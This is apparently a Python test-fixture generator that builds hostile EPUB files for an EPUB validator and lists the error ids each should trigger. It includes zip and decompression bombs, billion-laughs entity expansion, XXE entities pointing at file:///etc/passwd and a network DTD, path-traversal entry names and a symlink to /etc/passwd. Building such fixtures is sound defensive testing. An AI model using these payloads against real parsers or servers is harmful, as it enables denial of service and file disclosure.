"""Hostile EPUBs: one defect or attack each, on a small sound book."""

import struct

from rawzip import Archive, Entry, deflate, entry, fifield

MIB = 1 << 20
XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
CONTAINER = XML + (
    '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
    '<rootfile full-path="EPUB/package.opf" media-type="application/oebps-package+xml"/>'
    "</rootfiles></container>"
)


def opf(items="", spine="", more=""):
    return XML + (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="u">'
        '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="u">urn:x:1'
        "</dc:identifier><dc:title>T</dc:title><dc:language>en</dc:language>"
        '<meta property="dcterms:modified">2026-01-01T00:00:00Z</meta></metadata><manifest>'
        '<item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>'
        '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/>' + items +
        '</manifest><spine><itemref idref="c"/>' + spine + "</spine>" + more + "</package>"
    )


def xhtml(body, head="", doctype="<!DOCTYPE html>"):
    return XML + doctype + (
        '\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title>' + head +
        "</head><body>" + body + "</body></html>"
    )


NAV = XML + (
    '<!DOCTYPE html>\n<html xmlns="http://www.w3.org/1999/xhtml" '
    'xmlns:epub="http://www.idpf.org/2007/ops"><head><title>N</title></head><body>'
    '<nav epub:type="toc"><ol>%s</ol></nav></body></html>'
)
LINK = '<li><a href="c.xhtml">C</a></li>'


def book(c=None, nav=None, package=None, extra=(), **more):
    first = entry("mimetype", "application/epub+zip", 0, flags=0)
    return Archive([
        first,
        entry("META-INF/container.xml", CONTAINER),
        entry("EPUB/package.opf", package if package is not None else opf()),
        entry("EPUB/nav.xhtml", nav if nav is not None else NAV % LINK),
        entry("EPUB/c.xhtml", c if c is not None else xhtml("<p>Hello</p>")),
        *extra,
    ], **more)


CSS_ITEM = '<item id="s" href="s.css" media-type="text/css"/>'
CSS_LINK = '<link rel="stylesheet" type="text/css" href="s.css"/>'


def around(head, piece, count, tail):
    """head, `count` times `piece` in large parts, tail."""
    yield head.encode()
    block = piece.encode() * 4096
    for _ in range(count // 4096):
        yield block
    yield piece.encode() * (count % 4096) + tail.encode()


def split_around(text):
    return text.split("@@")


def big_css():
    return book(xhtml("<p/>", CSS_LINK), package=opf(CSS_ITEM), extra=[
        entry("EPUB/s.css", around("", "p { color: red }\n" + " " * 47, 512 * MIB // 64, ""))])


def big_xhtml():
    head, tail = split_around(xhtml("@@"))
    piece = "<p>" + "a" * 57 + "</p>"
    return book(around(head, piece, 256 * MIB // len(piece), tail))


def big_text():
    head, tail = split_around(xhtml("<p>@@</p>"))
    return book(around(head, "a" * 64, 256 * MIB // 64, tail))


def big_opf():
    head, tail = split_around(opf("@@"))
    return book(package=around(head, '<item id="x" href="c.xhtml" media-type="text/css"/>', 400_000,
                               tail))


def image(name, data):
    return '<item id="%s" href="%s" media-type="image/png"/>' % (name, name), entry("EPUB/" + name,
                                                                                    data)


def ratio_bomb():
    items, entries = [], []
    for n in range(40):
        item, one = image("i%d.png" % n, around("\x89PNG", "\0" * 64, 128 * MIB // 64, ""))\
            if n == 0 else (image("i%d.png" % n, b"")[0], None)
        if one is None:  # the same bytes again: packed once by us
            one = Entry(b"EPUB/i%d.png" % n, entries[0].packed, entries[0].size, entries[0].crc)
        items.append(item)
        entries.append(one)
    return book(package=opf("".join(items)), extra=entries)


def overlap_bomb():
    names = ["EPUB/f%d.xhtml" % n for n in range(120)]
    entries = fifield(names, [b" " * MIB] * 16)
    items = "".join('<item id="f%d" href="f%d.xhtml" media-type="application/xhtml+xml"/>' % (n, n)
                    for n in range(120))
    archive = book(package=opf(items))
    at = sum(len(archive.local(one)) for one in archive.entries)
    first = entries[0][0]
    for one, head in entries:
        one.central_only, one.offset = True, at
        at += len(head) + 5
    archive.entries.append(Entry(first.name, first.packed, first.size, first.crc, local_only=True))
    archive.entries += [one for one, _ in entries]
    return archive


def same_data_overlap():
    packed, size, crc = deflate([b"x" * MIB] * 16)
    archive = book()
    at = sum(len(archive.local(one)) for one in archive.entries)
    for n in range(200):
        archive.entries.append(Entry(b"EPUB/o.txt", packed, size, crc, offset=at,
                                     central_name=b"EPUB/o%03d" % n, central_only=n > 0))
    return archive


def laughs(levels, width):
    lines = ['<!ENTITY a0 "ha">']
    for n in range(1, levels):
        lines.append('<!ENTITY a%d "%s">' % (n, "&a%d;" % (n - 1) * width))
    return "<!DOCTYPE html [" + "".join(lines) + "]>", "&a%d;" % (levels - 1)


def billion_laughs():
    doctype, use = laughs(12, 10)
    return book(xhtml("<p>" + use + "</p>", doctype=doctype))


def billion_laughs_opf():
    doctype, use = laughs(12, 10)
    text = opf().replace("<package", doctype.replace("html", "package", 1) + "<package", 1)
    return book(package=text.replace(">T<", ">" + use + "<"))


def laughs_in_attribute():
    doctype, use = laughs(12, 10)
    return book(xhtml('<p title="%s">x</p>' % use, doctype=doctype))


def quadratic():
    doctype = '<!DOCTYPE html [<!ENTITY q "' + "q" * 100_000 + '">]>'
    return book(xhtml("<p>" + "&q;" * 50_000 + "</p>", doctype=doctype))


def parameter_entities():
    doctype = ('<!DOCTYPE html [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;">'
               '<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;">%c;]>')
    return book(xhtml("<p/>", doctype=doctype))


def xxe(target):
    doctype = '<!DOCTYPE html [<!ENTITY x SYSTEM "%s">]>' % target
    return book(xhtml("<p>&x;</p>", doctype=doctype))


def xxe_dtd():
    return book(xhtml("<p/>", doctype='<!DOCTYPE html [<!ENTITY % d SYSTEM '
                                      '"http://192.0.2.1/evil.dtd">%d;]>'))


def named(*names):
    return book(extra=[entry(name, b"evil") for name in names])


def many(count):
    return book(extra=[entry("EPUB/e/%d.txt" % n, b"", 0) for n in range(count)])


def lying_sizes():
    return book(extra=[entry("EPUB/small.txt", [b"z" * MIB] * 64, central_size=10, local_size=10),
                       entry("EPUB/two.txt", b"abc", central_size=1 << 31, local_size=3)])


def zip_encrypted():
    one = entry("EPUB/c.xhtml", xhtml("<p/>"))
    one.flags |= 1
    archive = book()
    archive.entries[4] = one
    return archive


ENCRYPTION = XML + (
    '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
    'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData><enc:EncryptionMethod '
    'Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/><enc:CipherData>'
    '<enc:CipherReference URI="EPUB/c.xhtml"/></enc:CipherData></enc:EncryptedData></encryption>'
)


def drm():
    return book(bytes(range(256)) * 8, extra=[entry("META-INF/encryption.xml", ENCRYPTION),
                                              entry("META-INF/rights.xml", XML + "<rights/>")])


def corrupt_deflate():
    archive = book()
    one = entry("EPUB/c.xhtml", xhtml("<p>Hello</p>" * 500))
    one.packed = one.packed[:40] + bytes(b ^ 0xA5 for b in one.packed[40:60]) + one.packed[60:]
    archive.entries[4] = one
    return archive


def wrong_crc():
    archive = book()
    archive.entries[4].crc ^= 1
    return archive


def fallback_cycle(count):
    items = "".join('<item id="i%d" href="i%d.bin" media-type="application/x-x" fallback="i%d"/>'
                    % (n, n, (n + 1) % count) for n in range(count))
    extra = [entry("EPUB/i%d.bin" % n, b"x", 0) for n in range(count)]
    return book(package=opf(items, '<itemref idref="i0"/>'), extra=extra)


def nested(count):
    return book(xhtml("<div>" * count + "</div>" * count))


def ids(count):
    return book(xhtml("".join('<p id="i%d">x</p>' % (n // 2) for n in range(count))))


def links(count):
    body = "".join('<p><a href="#n%d">x</a></p>' % n for n in range(count))
    return book(xhtml(body))


def attributes(count):
    return book(xhtml("<p " + " ".join('a%d="v"' % n for n in range(count)) + "/>"))


def deep_nav(depth):
    inner = LINK
    for _ in range(depth):
        inner = '<li><a href="c.xhtml">C</a><ol>' + inner + "</ol></li>"
    return book(nav=NAV % inner)


def symlink():
    one = entry("EPUB/link.txt", b"/etc/passwd", 0)
    one.made_by, one.external = (3 << 8) | 20, 0o120777 << 16
    item = '<item id="l" href="link.txt" media-type="text/plain"/>'
    return book(package=opf(item), extra=[one])


def bad_extra():
    return book(extra=[entry("EPUB/x.txt", b"x", extra=struct.pack("<HH", 0x7075, 60_000) + b"??"),
                       entry("EPUB/y.txt", b"y", extra=struct.pack("<HHQ", 1, 8, 1 << 62))])


def cut(archive, part):
    whole = archive.bytes()
    return whole[: int(len(whole) * part)]


def fifty_pages():
    items = "".join('<item id="p%d" href="p%d.xhtml" media-type="application/xhtml+xml"/>' % (n, n)
                    for n in range(50))
    extra = [entry("EPUB/p%d.xhtml" % n, xhtml("<p>Page %d</p>" % n)) for n in range(50)]
    return book(package=opf(items), extra=extra)


def style(text):
    return book(xhtml("<p/>", CSS_LINK), package=opf(CSS_ITEM), extra=[entry("EPUB/s.css", text)])


def import_loop():
    items = "".join('<item id="s%d" href="s%d.css" media-type="text/css"/>' % (n, n)
                    for n in range(2))
    extra = [entry("EPUB/s%d.css" % n, '@import "s%d.css"; @import "gone.css";' % (1 - n))
             for n in range(2)]
    return book(package=opf(items), extra=extra)


# name, what, the ids that must be reported (see make_hostile.py), how to make it.
EPUBS = [
    ("css-512-mib", "a style sheet that inflates to 512 MiB", "TIDE-001,TIDE-002", big_css),
    ("xhtml-256-mib", "a document that inflates to 256 MiB of short paragraphs",
     "TIDE-001,TIDE-002", big_xhtml),
    ("text-256-mib", "a document with one text of 256 MiB", "TIDE-001,TIDE-002", big_text),
    ("opf-400000-items", "a manifest of 400,000 items with one id", "TIDE-005|RSC-005",
     big_opf),
    ("bomb-by-ratio", "40 images of 128 MiB zeros each", "TIDE-002", ratio_bomb),
    ("bomb-by-quoted-overlap", "120 entries that quote each other's headers", "TIDE-007,TIDE-002",
     overlap_bomb),
    ("bomb-by-same-data", "200 entries with the same compressed bytes", "TIDE-007,TIDE-012",
     same_data_overlap),
    ("billion-laughs", "ten to the eleventh by entities", "TIDE-010", billion_laughs),
    ("billion-laughs-opf", "the same in the package document", "TIDE-010",
     billion_laughs_opf),
    ("billion-laughs-attribute", "the same in an attribute", "TIDE-010",
     laughs_in_attribute),
    ("quadratic-entities", "a long entity used 50,000 times", "TIDE-010", quadratic),
    ("parameter-entities", "parameter entities in the internal subset", "RSC-016",
     parameter_entities),
    ("xxe-file", "an external entity that is a file", "HTM-003",
     lambda: xxe("file:///etc/passwd")),
    ("xxe-network", "an external entity in the network", "HTM-003",
     lambda: xxe("http://192.0.2.1/x")),
    ("xxe-dtd", "an external DTD subset in the network", "HTM-003", xxe_dtd),
    ("traversal", "names that lead out of the book", "TIDE-006",
     lambda: named("../../../../tmp/tidemill-evil", "/abs/tidemill-evil", "a/../../evil")),
    ("backslash-names", "names with backslashes and drives", "PKG-009,TIDE-006",
     lambda: named("a\\..\\..\\evil", "C:\\evil")),
    ("device-names", "names of devices", "PKG-009,PKG-011",
     lambda: named("EPUB/CON", "EPUB/nul.txt", "EPUB/COM1.xhtml", "EPUB/a:b", "EPUB/end.")),
    ("strange-names", "names with NUL, newline, invalid UTF-8", "PKG-027",
     lambda: named(b"EPUB/a\0b", b"EPUB/a\nb", b"EPUB/\xff\xfe", b"", b"EPUB/" + b"n" * 60_000)),
    ("file-and-folder", "a name that is a file and a folder", "TIDE-018",
     lambda: named("EPUB/x", "EPUB/x/", "EPUB/x/y")),
    ("duplicate-entries", "the package document twice, a name in two cases", "OPF-060",
     lambda: named("EPUB/package.opf", "EPUB/C.xhtml")),
    ("symlink", "an entry that is a symbolic link", "TIDE-014", symlink),
    ("entries-70000", "70,000 entries", "TIDE-008", lambda: many(70_000)),
    ("lying-sizes", "sizes that are not those of the data", "TIDE-012",
     lying_sizes),
    ("names-differ", "local and central names differ", "TIDE-012",
     lambda: book(extra=[entry("EPUB/a.txt", b"x", central_name=b"EPUB/b.txt")])),
    ("bad-extra-fields", "extra fields longer than they are", "OPF-003|PKG-008|TIDE-012", bad_extra),
    ("zip-encrypted", "an entry encrypted by the means of ZIP", "TIDE-011",
     zip_encrypted),
    ("drm", "a document encrypted by other means", "RSC-004,TIDE-015", drm),
    ("truncated-70", "the first 70 % of a book", "PKG-008", lambda: cut(fifty_pages(), 0.7)),
    ("truncated-1", "the first bytes of a book", "PKG-008", lambda: cut(fifty_pages(), 0.002)),
    ("no-central-directory", "no central directory", "PKG-008",
     lambda: book(has_central=False)),
    ("bytes-before", "bytes before the archive", "PKG-004,TIDE-013",
     lambda: book(prefix=b"#!/bin/sh\n")),
    ("empty", "no bytes at all", "PKG-003", lambda: b""),
    ("no-zip", "not a ZIP file", "PKG-004,PKG-008", lambda: b"\x7fELF" + b"x" * 5000),
    ("corrupt-deflate", "damaged compressed data", "PKG-008", corrupt_deflate),
    ("wrong-crc", "a CRC that is wrong", "TIDE-012",
     wrong_crc),
    ("fallback-cycle", "a circle of fallbacks", "OPF-045",
     lambda: fallback_cycle(3)),
    ("fallback-cycle-10000", "a circle of 10,000 fallbacks", "OPF-045",
     lambda: fallback_cycle(10_000)),
    ("nested-100000", "100,000 nested elements", "TIDE-009", lambda: nested(100_000)),
    ("ids-200000", "200,000 ids, each twice", "RSC-005", lambda: ids(200_000)),
    ("links-200000", "200,000 links to nothing", "RSC-012", lambda: links(200_000)),
    ("attributes-1000000", "an element with a million attributes", "TIDE-001",
     lambda: attributes(1_000_000)),
    ("nav-deep", "a navigation 200 levels deep", "none",
     lambda: deep_nav(200)),
    ("nav-deep-20000", "a navigation 20,000 levels deep", "TIDE-009",
     lambda: deep_nav(20_000)),
    ("utf-16-lie", "declares UTF-16, is UTF-8", "HTM-058,RSC-016",
     lambda: book(xhtml("<p/>").replace("UTF-8", "UTF-16"))),
    ("utf-16-document", "a document in UTF-16", "HTM-058",
     lambda: book(xhtml("<p/>").replace("UTF-8", "UTF-16").encode("utf-16"))),
    ("bom-lie", "a byte order mark of UTF-16 before UTF-8", "HTM-058",
     lambda: book(b"\xfe\xff" + xhtml("<p/>").encode())),
    ("latin-1-lie", "declares UTF-8, is Latin-1", "TIDE-020",
     lambda: book(xhtml("<p>\xe9\xe8</p>").encode("latin-1"))),
    ("unknown-encoding", "an encoding nobody knows", "RSC-016",
     lambda: book(xhtml("<p/>").replace("UTF-8", "X-NOBODY-9"))),
    ("ibm-encoding", "an encoding that is looked up in files", "RSC-016",
     lambda: book(xhtml("<p/>").replace("UTF-8", "IBM1390"))),
    ("css-nested-100000", "100,000 open blocks", "CSS-008", lambda: style("@media x {" * 100_000)),
    ("css-open-comment", "a comment that never ends", "CSS-008", lambda: style("/*" * 500_000)),
    ("css-open-strings", "strings that never end", "CSS-008",
     lambda: style('p { content: "x \n' * 100_000)),
    ("css-import-loop", "style sheets that import each other", "RSC-007|RSC-001", import_loop),
    ("base64-href", "a data: reference of 20 MiB", "RSC-016|RSC-029",
     lambda: book(xhtml('<p><a href="data:text/html;base64,' + "A" * (20 * MIB) + '">x</a></p>'))),
]
